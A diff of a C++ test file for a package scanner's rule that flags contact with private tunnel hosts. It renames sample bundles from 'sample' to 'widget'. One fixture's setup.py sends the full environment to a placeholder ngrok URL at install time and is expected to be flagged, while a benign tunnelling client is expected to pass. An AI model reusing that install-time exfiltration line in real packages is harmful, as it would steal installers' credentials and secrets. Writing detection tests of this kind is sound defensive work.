@@ -51,20 +51,20 @@ extern constinit const Rule contacts_private_tunnel = {
 constexpr Sample samples[] = {
     {.name = "a setup script posts to a tunnel", .expect = "setup.py:5", .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 import os
 import urllib.request
 from setuptools import setup
 data = str(dict(os.environ)).encode()
-urllib.request.urlopen("https://0000-sample.ngrok-free.app/collect", data=data)
-setup(name="sample", version="1.0.0")
+urllib.request.urlopen("https://0000-widget.ngrok-free.app/collect", data=data)
+setup(name="widget", version="1.0.0")
 )"},
     {.name = "a tunnelling client opens what its user asks for",
      .expect = silent,
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const https = require("https");
 exports.open = (name) => https.get(`https://tunnel.example.test/?new=${name}`);
